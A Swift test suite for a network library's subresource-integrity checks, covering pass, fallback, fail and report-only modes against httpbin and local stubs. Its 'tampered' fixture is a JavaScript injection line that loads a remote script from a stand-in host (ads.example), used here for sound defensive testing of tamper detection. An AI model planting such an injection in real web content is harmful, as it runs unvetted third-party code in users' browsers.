import Foundation
import NetTapCore
import NetTapIntegrity
import NetTapMocking
import NetTapTestSupport
import Testing

#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

@Suite("Integrity through real URLSession: pass, fallback, fail and report against httpbin and stubs")
struct IntegrityTests {
    static let good = Data("window.app = function () { return 42; };\n".utf8)
    static let tampered =
        Data(
            "window.app = function () { return 42; };\n(function(){var s=document.createElement('script');"
                .utf8
        ) + Data("s.src='http://ads.example/inject.js';document.head.appendChild(s)})();\n".utf8)

    /// The httpbin path that returns `data` (`/base64/<URL-safe base64>`).
    static func base64Path(_ data: Data) -> String {
        let encoded = data.base64EncodedString()
            .replacingOccurrences(of: "+", with: "-")
            .replacingOccurrences(of: "/", with: "_")
        return "/base64/" + encoded
    }

    /// A file holding `data` in a fresh folder; the caller removes the folder.
    static func bundledFile(_ data: Data, name: String = "known-good.js") throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nettap-it-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let file = folder.appendingPathComponent(name)
        try data.write(to: file)
        return file
    }

    static func remove(_ file: URL) {
        try? FileManager.default.removeItem(at: file.deletingLastPathComponent())
    }

    /// An interceptor with an integrity handler whose one rule selects `path` with `expected` digests.
    static func interceptor(
        path: String,
        expected: IntegrityMetadata,
        onMismatch: IntegrityRule.MismatchAction,
        after: [any TransactionHandler] = []
    ) -> NetTapInterceptor {
        let interceptor = NetTapInterceptor()
        let rule = IntegrityRule(.path(path), pathExtensions: [], expect: .digest(expected), onMismatch: onMismatch)
        interceptor.handlers = [IntegrityHandler(rules: [rule])] + after
        return interceptor
    }

    static func sha256(_ data: Data) throws -> IntegrityMetadata {
        IntegrityMetadata(try IntegrityDigest.of(data, using: .sha256))
    }

    /// Checks that the app got exactly `expected`, and a delegate never saw other bytes.
    static func expectDelivered(_ outcome: Observed, _ expected: Data, style: CallerStyle) {
        #expect(outcome.error == nil, "\(style): \(outcome)")
        #expect(outcome.response?.statusCode == 200, "\(style)")
        #expect(outcome.body == expected, "\(style)")
    }

    /// Checks that the app got the integrity failure and not one byte.
    static func expectFailed(_ outcome: Observed, style: CallerStyle, caller: CallRecorder, call: Call?) {
        #expect(outcome.error is URLError, "\(style): \(outcome)")
        #expect(outcome.nsError?.code == URLError.Code.badServerResponse.rawValue, "\(style)")
        #expect(outcome.error?.localizedDescription.hasPrefix("integrity check failed for ") == true, "\(style)")
        #expect(outcome.body.isEmpty, "\(style): no byte reached the app")
        #expect(outcome.response == nil, "\(style): not even a response head")
        if style == .delegate, let task = call?.task {
            #expect(caller.delegate.callbacks(of: task) == [.complete(URLError.Code.badServerResponse.rawValue)])
        }
    }

    // MARK: - httpbin

    @Test("httpbin content that matches is delivered unchanged and annotated verified", arguments: CallerStyle.allCases)
    func httpbinPass(style: CallerStyle) async throws {
        let server = try await HTTPBin.shared()
        let path = Self.base64Path(Self.good)
        let interceptor = Self.interceptor(path: path, expected: try Self.sha256(Self.good), onMismatch: .fail)
        let outcome = await CallRecorder(interceptor: interceptor).send(URLRequest(url: server.url(path)), style: style)
        Self.expectDelivered(outcome, Self.good, style: style)
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.findings.isEmpty)
        #expect(transaction.answeredBy == "network")
        #expect(transaction.annotations["integrity"] == "verified sha256 (digest)")
    }

    @Test(
        "tampered httpbin content is replaced by the bundled copy; a delegate sees only its bytes",
        arguments: CallerStyle.allCases
    )
    func httpbinFallback(style: CallerStyle) async throws {
        let server = try await HTTPBin.shared()
        let path = Self.base64Path(Self.tampered)
        let file = try Self.bundledFile(Self.good)
        defer { Self.remove(file) }
        let interceptor = Self.interceptor(
            path: path,
            expected: try Self.sha256(Self.good),
            onMismatch: .fallback(.files([path: file]))
        )
        let caller = CallRecorder(interceptor: interceptor)
        let call = caller.start(URLRequest(url: server.url(path)), style: style)
        let outcome = await call.value
        Self.expectDelivered(outcome, Self.good, style: style)
        #expect(outcome.response?.value(forHTTPHeaderField: "Content-Length") == "\(Self.good.count)")
        if style == .delegate, let task = call.task {
            let callbacks = caller.delegate.callbacks(of: task)
            let dataBytes = callbacks.reduce(0) { sum, callback in
                if case .data(let count) = callback { sum + count } else { sum }
            }
            #expect(dataBytes == Self.good.count, "only the bundled copy's bytes: \(callbacks)")
            #expect(callbacks.first == .response(200))
        }
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.answeredBy == "integrity")
        let finding = try #require(transaction.findings.first)
        #expect(finding.rule == "integrity.mismatch")
        #expect(finding.severity == .high)
        #expect(finding.details["action"] == "fallback")
        #expect(finding.details["expected"] == (try Self.sha256(Self.good)).sri)
        #expect(finding.details["actual"] == (try Self.sha256(Self.tampered)).sri)
        #expect(finding.details["url"] == server.url(path).absoluteString)
    }

    @Test("tampered httpbin content fails the request; the app gets no byte", arguments: CallerStyle.allCases)
    func httpbinFail(style: CallerStyle) async throws {
        let server = try await HTTPBin.shared()
        let path = Self.base64Path(Self.tampered)
        let interceptor = Self.interceptor(path: path, expected: try Self.sha256(Self.good), onMismatch: .fail)
        let caller = CallRecorder(interceptor: interceptor)
        let call = caller.start(URLRequest(url: server.url(path)), style: style)
        let outcome = await call.value
        Self.expectFailed(outcome, style: style, caller: caller, call: call)
        let description = outcome.error?.localizedDescription ?? ""
        #expect(description.contains(server.url(path).absoluteString))
        #expect(description.contains((try Self.sha256(Self.good)).sri))
        #expect(description.contains((try Self.sha256(Self.tampered)).sri))
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.state == .failed)
        #expect(transaction.findings.map(\.rule) == ["integrity.mismatch"])
        #expect(transaction.findings.first?.details["action"] == "fail")
    }

    @Test("report-only delivers the tampered httpbin content and records the finding", arguments: CallerStyle.allCases)
    func httpbinReport(style: CallerStyle) async throws {
        let server = try await HTTPBin.shared()
        let path = Self.base64Path(Self.tampered)
        let interceptor = Self.interceptor(path: path, expected: try Self.sha256(Self.good), onMismatch: .report)
        let outcome = await CallRecorder(interceptor: interceptor).send(URLRequest(url: server.url(path)), style: style)
        Self.expectDelivered(outcome, Self.tampered, style: style)
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.answeredBy == "network")
        #expect(transaction.findings.first?.details["action"] == "report")
    }

    @Test("binary httpbin bytes verify with SHA-512, and a wrong digest serves the bundled binary")
    func httpbinBinary() async throws {
        let server = try await HTTPBin.shared()
        let path = "/bytes/70000"
        let url = server.url(path + "?seed=12")
        let direct = await CallRecorder(interceptor: nil).send(URLRequest(url: url), style: .async)
        #expect(direct.body.count == 70_000)
        let sha512 = IntegrityMetadata(try IntegrityDigest.of(direct.body, using: .sha512))
        let verified = Self.interceptor(path: path, expected: sha512, onMismatch: .fail)
        let outcome = await CallRecorder(interceptor: verified).send(URLRequest(url: url), style: .delegate)
        Self.expectDelivered(outcome, direct.body, style: .delegate)

        let known = Data((0..<5000).map { UInt8($0 % 251) })
        let file = try Self.bundledFile(known, name: "blob.bin")
        defer { Self.remove(file) }
        let replaced = Self.interceptor(
            path: path,
            expected: IntegrityMetadata(try IntegrityDigest.of(known, using: .sha512)),
            onMismatch: .fallback(.files([path: file]))
        )
        let fallback = await CallRecorder(interceptor: replaced).send(URLRequest(url: url), style: .delegate)
        Self.expectDelivered(fallback, known, style: .delegate)
    }

    // MARK: - A tampered stub behind the handler

    static let stubHost = "http://127.0.0.1:1"

    static func stubbed(_ name: String, body: Data) -> MockHandler {
        MockHandler(
            mocks: MockSet(stubs: [
                Stub(
                    "tampered",
                    matching: .path("/static/\(name)"),
                    response: .data(body, headers: ["Content-Type": "text/javascript"])
                )
            ]),
            unmatched: .fail
        )
    }

    /// The stubbed script's name, `app.<hex SHA-256 of the good copy>.js`.
    static func stubName() throws -> String {
        "app.\(try IntegrityDigest.of(Self.good, using: .sha256).hex).js"
    }

    /// An interceptor whose integrity handler checks 127.0.0.1 by file name in front of a tampered stub of
    /// `name`, and the request for that stub.
    static func tamperedStub(
        _ name: String,
        onMismatch: IntegrityRule.MismatchAction
    ) throws -> (NetTapInterceptor, URLRequest) {
        let interceptor = NetTapInterceptor()
        interceptor.handlers = [
            IntegrityHandler(rules: [IntegrityRule(.host("127.0.0.1"), expect: .fileName, onMismatch: onMismatch)]),
            Self.stubbed(name, body: Self.tampered),
        ]
        let url = try #require(URL(string: "\(Self.stubHost)/static/\(name)"))
        return (interceptor, URLRequest(url: url))
    }

    @Test("a tampered stub named by its SHA-256 falls back to the bundled folder", arguments: CallerStyle.allCases)
    func stubFallback(style: CallerStyle) async throws {
        let name = try Self.stubName()
        let file = try Self.bundledFile(Self.good, name: name)
        defer { Self.remove(file) }
        let folder = file.deletingLastPathComponent()
        let staticFolder = folder.appendingPathComponent("static")
        try FileManager.default.createDirectory(at: staticFolder, withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: file, to: staticFolder.appendingPathComponent(name))
        let (interceptor, request) = try Self.tamperedStub(name, onMismatch: .fallback(.directory(folder)))
        let caller = CallRecorder(interceptor: interceptor)
        let call = caller.start(request, style: style)
        let outcome = await call.value
        Self.expectDelivered(outcome, Self.good, style: style)
        // The fallback's type comes from its extension, not from the tampered response.
        #expect(outcome.response?.value(forHTTPHeaderField: "Content-Type") == "text/javascript; charset=utf-8")
        if style == .delegate, let task = call.task {
            #expect(caller.delegate.callbacks(of: task) == [.response(200), .data(Self.good.count), .complete(0)])
        }
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.answeredBy == "integrity")
        #expect(transaction.findings.first?.details["action"] == "fallback")
        #expect(transaction.response?.body?.data == Self.good, "the capture holds what the app got")
    }

    @Test("a tampered stub fails the request when the rule says fail", arguments: CallerStyle.allCases)
    func stubFail(style: CallerStyle) async throws {
        let name = try Self.stubName()
        let (interceptor, request) = try Self.tamperedStub(name, onMismatch: .fail)
        let caller = CallRecorder(interceptor: interceptor)
        let call = caller.start(request, style: style)
        Self.expectFailed(await call.value, style: style, caller: caller, call: call)
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.findings.first?.details["action"] == "fail")
    }

    @Test(
        "a tampered stub under report-only reaches the app with the finding recorded",
        arguments: CallerStyle.allCases
    )
    func stubReport(style: CallerStyle) async throws {
        let name = try Self.stubName()
        let (interceptor, request) = try Self.tamperedStub(name, onMismatch: .report)
        let outcome = await CallRecorder(interceptor: interceptor).send(request, style: style)
        Self.expectDelivered(outcome, Self.tampered, style: style)
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.answeredBy == "mock")
        #expect(transaction.findings.first?.details["action"] == "report")
    }

    @Test("a missing bundled copy fails instead of delivering the tampered stub", arguments: CallerStyle.allCases)
    func stubFallbackMissing(style: CallerStyle) async throws {
        let name = try Self.stubName()
        let empty = FileManager.default.temporaryDirectory.appendingPathComponent("nettap-empty-\(UUID().uuidString)")
        let (interceptor, request) = try Self.tamperedStub(name, onMismatch: .fallback(.directory(empty)))
        let caller = CallRecorder(interceptor: interceptor)
        let call = caller.start(request, style: style)
        Self.expectFailed(await call.value, style: style, caller: caller, call: call)
        let transaction = await interceptor.captureLog.waitForFinished { _ in true }
        #expect(transaction.findings.first?.details["fallbackProblem"] == "missing")
    }
}
